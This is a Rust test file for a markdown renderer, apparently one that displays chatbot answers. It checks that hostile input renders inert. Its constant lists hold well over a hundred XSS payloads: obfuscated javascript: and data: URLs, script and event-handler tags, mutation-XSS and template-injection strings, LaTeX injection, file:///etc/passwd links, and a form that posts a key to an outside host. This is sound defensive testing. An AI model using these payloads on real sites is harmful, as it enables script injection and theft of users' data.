//! What a hostile answer may contain, in every place where it may stand, comes out inert.

use markdown::{PieceKind, Renderer, html, render};

mod tags;

/// Addresses that must never become a link or an image.
const REFUSED: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://poe.com/%0aalert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&#13;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#14;javascript:alert(1)",
    "&#x20;javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java\u{0}script:alert(1)",
    "java\tscript:alert(1)",
    "javascript\\:alert(1)",
    "\\javascript:alert(1)",
    "java\u{ad}script:alert(1)",
    "java\u{200b}script:alert(1)",
    "\u{feff}javascript:alert(1)",
    "ｊavascript:alert(1)",
    "javascript：alert(1)",
    "jаvascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript%3aalert(1)",
    "view-source:javascript:alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "data:,x",
    "file:///etc/passwd",
    "file://host/share",
    "FILE:C:/Windows",
    "ftp://a.example/x",
    "sftp://a.example",
    "smb://a.example/x",
    "\\\\a.example\\share",
    "//a.example/x",
    "///a.example",
    "/\\a.example",
    "\\/a.example",
    "ms-msdt:/id PCWDiagnostic",
    "ms-word:ofe|u|http://a.example",
    "search-ms:query=x",
    "calculator://",
    "x-apple:1",
    "vscode://file/etc",
    "ssh://a.example",
    "telnet://a.example",
    "tel:123",
    "sms:123",
    "facetime:1",
    "intent:x#Intent",
    "blob:https://a.example/1",
    "filesystem:https://a.example/1",
    "about:blank",
    "chrome://settings",
    "tauri://localhost",
    "ipc://localhost/x",
    "asset://localhost/etc/passwd",
    "http://",
    "https://",
    "https:a.example",
    "https:/a.example",
    "https:///a.example",
    "https:\\\\a.example",
    "https:/\\a.example",
    "http:\\a.example",
    "https://user@a.example",
    "https://user:pw@a.example",
    "https://api.poe.com@a.example",
    "https://api.poe.com%40@a.example",
    "https://@a.example",
    "https://a.example\\@b.example",
    "https://a.example\\x",
    "https://a.example/&#10;x",
    "https://a.example/&#0;",
    "https://a.example/\u{202e}gpj",
    "https://a\u{200b}.example",
    "https://[::1",
    "https://a.example:99999/",
    "https://%00",
    "mailto:",
    "mailto:x",
    "mailto:a@b.example?attach=/etc/passwd",
    "mailto:a@b.example&#10;Bcc:x@y.example",
    "relative/path",
    "/absolute",
    "?query",
    "#fragment",
    "./x",
    "../x",
    "",
    " ",
    "x:y",
    ":",
    "://a.example",
    "http",
    "feed:javascript:alert(1)",
    "jar:https://a.example!/x",
    "wyciwyg://x",
    "res://x",
    "mhtml:https://a.example!x",
    "urn:x:y",
    "magnet:?x",
    "bitcoin:x",
    "ws://a.example",
    "wss://a.example",
    "gopher://a.example",
    "ldap://a.example",
];

/// Where an address may stand; `@` is the address.
const CARRIERS: &[&str] = &[
    "[x](@)",
    "[x](<@>)",
    "[x](@ \"title\")",
    "![x](@)",
    "![x](<@>)",
    "![](@)",
    "<@>",
    "@",
    "see @ now",
    "(@)",
    "[x][r]\n\n[r]: @",
    "[r]\n\n[r]: <@>",
    "![x][r]\n\n[r]: @ 'title'",
    "![r][]\n\n[r]: <@>",
    "[![x](@)](@)",
    "[![x](@)](https://a.example)",
    "[@](https://a.example)",
    "[x](https://a.example \"@\")",
    "![@](https://a.example)",
    "- [x](@)",
    "> [x](@)",
    "| [x](@) |\n|---|\n| ![y](@) |",
    "# [x](@)",
    "**[x](@)**",
    "~~[x](@)~~",
    "[^1]\n\n[^1]: [x](@)",
    "<a href=\"@\">x</a>",
    "<a href='@'>x</a>",
    "<a href=@>x</a>",
    "<img src=\"@\">",
    "```@\nx\n```",
    "`@`",
    "$@$",
    "$$\\href{@}{x}$$",
    "![x](https://a.example/i.png)\n\n@",
    "[^@]\n\n[^@]: x",
    "[ @ ]: @\n\n[ @ ]",
    "[x](  @  )",
    "[x](@\n\"t\")",
    "<@ onclick=x>",
];

/// HTML and other things that must stay text.
const TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//a.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)>",
    "<br><script>alert(1)</script>",
    "<br \"><img src=x onerror=alert(1)>\">",
    "「<br>**」<img src=x>**",
    "$<br>$",
    "**<「*a@b.c>：**x",
    "\u{e0001}\u{e0041}\u{e007f}",
    "\u{2066}\u{2069}\u{200b}\u{feff}\u{ad}",
    "<img srcset=\"https://a.example/x 2x\">",
    "<image href=x onerror=alert(1)>",
    "<picture><source srcset=https://a.example/x></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href=data:x></svg>",
    "<svg><foreignObject><iframe></svg>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<maction actiontype=statusline>x</maction>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=x></frameset>",
    "<object data=x></object>",
    "<embed src=x>",
    "<applet code=x></applet>",
    "<base href=//a.example/>",
    "<link rel=stylesheet href=//a.example>",
    "<link rel=prefetch href=//a.example>",
    "<meta http-equiv=refresh content=\"0;url=//a.example\">",
    "<meta http-equiv=Content-Security-Policy content=x>",
    "<style>@import '//a.example'</style>",
    "<style>body{background:url(//a.example)}</style>",
    "<p style=\"background:url(//a.example)\">x</p>",
    "<form action=//a.example><input name=key><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=x>",
    "<video poster=//a.example><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<track src=//a.example>",
    "<body onload=alert(1)>",
    "<body background=//a.example>",
    "<html manifest=//a.example>",
    "<table background=//a.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open>x</dialog>",
    "<template><script>x</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<div id=app class=x data-x onclick=alert(1)>x</div>",
    "<a name=body>x</a>",
    "<a id=location>x</a>",
    "<a href=x target=_blank ping=//a.example>x</a>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a\u{c}href=javascript:alert(1)>x</a>",
    "<a/href=javascript:alert(1)>x</a>",
    "<area href=javascript:x>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>x</script>]]>",
    "<?xml-stylesheet href=//a.example?>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]>",
    "<%= x %>",
    "<x-custom onclick=alert(1)>",
    "</p><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "--><script>alert(1)</script>",
    "]]><script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<b\u{0}>x",
    "<\u{0}script>alert(1)</script>",
    "\u{0}",
    "\u{1}\u{2}\u{8}\u{b}\u{c}\u{e}\u{1b}[31m\u{7f}\u{85}\u{9f}",
    "&#0;&#1;&#x1f;&#127;&#159;",
    "\u{202e}txt.exe",
    "\u{2028}\u{2029}",
    "\u{fffe}\u{ffff}",
    "&#xD800;&#x110000;&#9999999999;",
    "+ADw-script+AD4-",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<span class=\"hl-keyword\" style=x>",
    "<div class=\"code\">",
    "<button class=image data-src=x>",
    "onerror=alert(1)",
    "expression(alert(1))",
    "url(//a.example)",
    "srcdoc",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\href{javascript:alert(1)}{x}",
    "\\htmlData{x=y}{z}",
    "\\includegraphics{//a.example}",
    "\\color{red;background:url(//a.example)}x",
    "\\style{color:red}{x}",
    "\\class{x}{y}",
    "\\unicode{<}",
    "\\mathrm{<script>}",
    "\\begin{array}{\"onload=x}a\\end{array}",
    "\\def\\a{\\a\\a}\\a",
    "\\url{javascript:x}",
    "\\label{x}\\ref{x}\\eqref{\"><b>}",
    "\\hspace{99999em}",
    "\\operatorname{<b>}",
    "\\tag{<b>}",
    "\\text{a \\textbf{<i>} $x$}",
];

/// Where a text may stand; `@` is the text.
const PLACES: &[&str] = &[
    "@",
    "x @ y",
    "# @",
    "- @",
    "> @",
    "**@**",
    "`@`",
    "    @",
    "```\n@\n```",
    "```@\nx\n```",
    "``` js @\nx\n```",
    "```html\n@\n```",
    "```js\n@\n```",
    "| @ |\n|---|\n| @ |",
    "[@](https://a.example)",
    "[x](https://a.example \"@\")",
    "[x](https://a.example '@')",
    "[x](https://a.example/@)",
    "[x](<https://a.example/@>)",
    "![@](https://a.example/x)",
    "![x](https://a.example/@)",
    "![x](<https://a.example/@> \"@\")",
    "https://a.example/@",
    "www.a.example/@",
    "<https://a.example/@>",
    "[@]\n\n[@]: https://a.example",
    "[r]\n\n[r]: https://a.example \"@\"",
    "[^@]\n\n[^@]: @",
    "[^1]\n\n[^1]: @",
    "$@$",
    "$$@$$",
    "$$\n@\n$$",
    "- [ ] @",
    "~~@~~",
    "> [!NOTE]\n> @",
    "a@@b.example",
    "<div>\n@\n</div>",
    "\\@",
    "1. @",
    "@\n===",
    "[![@](https://a.example)](https://b.example)",
];

/// One document, whole and in pieces.
fn check(text: &str) {
    let whole = render(text);
    whole.iter().for_each(|block| tags::check(block, text));
    let (mut renderer, mut blocks) = (Renderer::new(), Vec::new());
    let mut apply = |update: markdown::Update| {
        // The window places each piece by itself.
        let pieces = update.blocks.iter().flatten();
        for piece in pieces.filter(|piece| piece.kind == PieceKind::Whole) {
            tags::check(&piece.html, text);
        }
        let keep = update.keep;
        update.apply(&mut blocks);
        blocks[keep..].iter().for_each(|block| tags::check(&html(block), text));
    };
    let characters: Vec<char> = text.chars().collect();
    for piece in characters.chunks(5) {
        renderer.push(&piece.iter().collect::<String>());
        apply(renderer.update());
    }
    apply(renderer.finish());
    let blocks: Vec<String> = blocks.iter().map(|block| html(block)).collect();
    assert_eq!(blocks, whole, "in pieces: {text:?}");
}

#[test]
fn no_carrier_lets_a_refused_address_through() {
    for address in REFUSED {
        for carrier in CARRIERS {
            let text = carrier.replace('@', address);
            check(&text);
            let html = render(&text).concat();
            for found in tags::addresses(&html) {
                let own = ["https://a.example", "https://a.example/i.png"].contains(&found.as_str());
                // Part of a refused address may be a plain one (`https://api.poe.com` in running text), and between
                // angle brackets `&#10;` is no line break but five characters.
                let other = found != *address || address.contains('&');
                assert!(own || other && markdown::allowed_address(&found), "{text:?}: {found:?}");
            }
        }
    }
}

#[test]
fn html_and_other_tricks_stay_text() {
    for text in TEXTS {
        for place in PLACES {
            check(&place.replace('@', text));
        }
    }
}

#[test]
fn nothing_hides_between_two_tricks() {
    for (first, second) in TEXTS.iter().zip(TEXTS.iter().cycle().skip(17)) {
        check(&format!("{first}{second}"));
        check(&format!("{first}\n{second}\n\n{first} *{second}*"));
    }
}

#[test]
fn the_answers_own_html_is_seen() {
    assert_eq!(
        render("<script>alert(1)</script>"),
        ["<p class=\"raw\">&lt;script&gt;alert(1)&lt;/script&gt;</p>"]
    );
    assert_eq!(render("a <b>x</b>"), ["<p>a &lt;b&gt;x&lt;/b&gt;</p>"]);
    assert_eq!(render("[x](javascript:alert(1))"), ["<p>x</p>"]);
    assert_eq!(render("![x](javascript:alert(1))"), ["<p>x</p>"]);
    assert_eq!(render("[x](/relative)"), ["<p>x</p>"]);
}

#[test]
fn the_lists_are_long_enough() {
    assert!(REFUSED.len() + TEXTS.len() >= 200, "{} and {}", REFUSED.len(), TEXTS.len());
}
